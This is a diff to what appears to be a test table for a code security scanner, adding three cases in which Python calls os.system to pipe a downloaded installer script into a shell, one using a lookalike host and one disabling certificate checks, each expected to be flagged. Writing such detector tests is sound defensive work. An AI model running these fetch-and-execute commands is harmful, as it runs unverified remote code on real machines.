@@ -40,6 +40,18 @@ SQL = "from flask import request\nn = request.args['n']\napp.state.{}.execute('x
 LOG = "import logging, os\nlog = logging.getLogger('a')\n"
 
 CASES = {
+    "an installer, as its vendor has it": (
+        {"a.py": "import os\nos.system('wget -qO- https://astral.sh/uv/i.sh | sudo -E sh')\n"},
+        "piped-to-shell", "medium",
+    ),
+    "an installer of a host that begins alike": (
+        {"a.py": "import os\nos.system('curl -sSf https://astral.sh.shop.net/i.sh | sh')\n"},
+        "piped-to-shell", "high",
+    ),
+    "an installer without the certificate": (
+        {"a.py": "import os\nos.system('curl -sSfk https://astral.sh/uv/install.sh | sh')\n"},
+        "piped-to-shell", "high",
+    ),
     "weights over plain HTTP": (
         {"a.py": "URL = 'http://models.shop.net/a.bin'\n"}, "weights-over-http", "high",
     ),
